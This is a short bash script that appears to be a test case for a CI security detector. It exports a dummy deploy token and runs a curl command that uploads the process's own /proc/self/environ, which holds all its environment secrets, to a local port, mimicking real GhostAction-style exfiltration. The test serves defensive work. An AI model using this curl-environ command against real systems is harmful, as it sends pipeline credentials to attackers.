#!/bin/bash
# technique: T1552.001 Unsecured Credentials (CI secrets in the environment); T1041 Exfiltration Over C2 Channel
# reproduces: payloads that hand the process's own environ file to the uploader (`curl --data-binary @/proc/self/environ`), as the GhostAction and pwn-request variants did to skip env and printenv
# expect: environment-sent-to-network ^curl$
# exec-borne: no
set -u

export CI_DEPLOY_TOKEN="ghp_buildwardenAttackTest0000000000000000"

curl -s -o /dev/null --connect-timeout 5 -H "Content-Type: application/octet-stream" \
	--data-binary @/proc/self/environ "http://127.0.0.1:${BW_ATTACK_PORT:?}/e"
